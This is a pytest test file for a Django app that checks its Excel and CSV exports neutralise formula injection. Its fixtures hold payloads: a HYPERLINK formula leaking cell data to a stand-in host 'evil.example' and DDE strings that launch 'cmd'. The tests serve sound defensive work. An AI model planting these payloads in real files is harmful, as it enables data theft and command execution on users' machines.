"""A title that is a formula stays text in every spreadsheet and CSV file (issue 12, OWASP CSV injection)."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import load_workbook

from disclosure import publishing
from stats import cells
from stats.models import ExportJob
from suggestions.models import Status, Suggestion
from supervision import actions as supervision_actions
from tests.world import advance

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'
pytestmark = pytest.mark.django_db


@pytest.fixture
def evil(world):
    s = world.new_draft(title=EVIL)
    advance(world, s, Status.CLOSED, category="B")
    item = {"what": "@SUM(1+1)*cmd|' /C calc'!A0", "due_date": date(2026, 12, 31), "responsible": "-处长"}
    supervision_actions.record_commitments(s, actor=world.handler, commitments=[item])
    return s


@pytest.fixture(autouse=True)
def inline_jobs(settings):
    settings.STATS_EXPORT_IN_THREAD = False


@pytest.mark.parametrize("kind", [k for k, _ in ExportJob.Kind.choices if k != "filtered"])
def test_every_excel_ledger_writes_the_title_as_text(world, client, evil, kind):
    client.force_login(world.office)
    client.post("/stats/exports/start/", {"kind": kind, "session": world.session.pk})
    job = ExportJob.objects.get()
    assert job.state == "done", job.error
    response = client.get(f"/stats/exports/{job.pk}/download/")
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    evil_cells = [c for c in found if c.value == EVIL]
    assert evil_cells, "the title is in the ledger, as written"
    assert all(c.data_type == "s" for c in found), [c.value for c in found if c.data_type != "s"]
    if kind == "b_ledger":
        assert any(c.value.startswith("@SUM") and c.data_type == "s" for c in found)


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_office_csv_neutralises_the_formula(world, client, evil):
    client.force_login(world.office)
    rows = _csv(client.get("/office/suggestions.csv"))
    titles = [r[1] for r in rows[1:]]
    assert "'" + EVIL in titles and EVIL not in titles


def test_the_public_catalogue_csv_neutralises_the_formula(world, client, evil):
    publishing.publish_catalogue(world.session, actor=world.office)
    rows = _csv(client.get(f"/public/sessions/{world.session.pk}/catalogue.csv"))
    cells_ = [c for r in rows for c in r]
    assert any(c.startswith("'=HYPERLINK") for c in cells_)
    assert not any(c.startswith(cells.FORMULA_START) for c in cells_)


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_safe_prefixes_every_formula_start(value):
    assert cells.csv_safe(value) == "'" + value
    assert cells.csv_safe("关于" + value) == "关于" + value
    assert cells.csv_safe(-5) == -5  # numbers stay numbers


def test_the_import_template_writes_reference_names_as_text(world, client):
    world.other_unit.short_name = "=cmd|' /C calc'!A0"
    world.other_unit.save(update_fields=["short_name"])
    type(world.other_unit).objects.exclude(pk=world.other_unit.pk).update(is_active=False)  # its name starts the cell
    client.force_login(world.office)
    wb = load_workbook(io.BytesIO(client.get("/office/imports/template.xlsx").content))
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value.startswith("=cmd") for c in found) and all(c.data_type == "s" for c in found)


def test_every_csv_and_excel_writer_goes_through_the_cells_helper():
    """The kind of mistake: a new export that writes cells without `stats.cells`."""
    apps_ = [p for p in Path(settings.BASE_DIR).iterdir() if (p / "apps.py").exists() or p.name == "jianyi"]
    offenders = []
    for app in apps_:
        for path in app.rglob("*.py"):
            if path.name == "cells.py" and app.name == "stats" or "migrations" in path.parts:
                continue
            src = path.read_text(encoding="utf-8")
            raw_csv = re.search(r"csv\.(writer|DictWriter)\(", src)
            writes_xlsx = re.search(r"\bWorkbook\(", src)
            if raw_csv or (
                writes_xlsx and not re.search(r"from (stats|\.)\.?cells import|from stats import .*cells", src)
            ):
                offenders.append(str(path.relative_to(settings.BASE_DIR)))
    assert offenders == []


def test_suggestion_title_is_unchanged_in_the_database(evil):
    assert Suggestion.objects.get(pk=evil.pk).title == EVIL
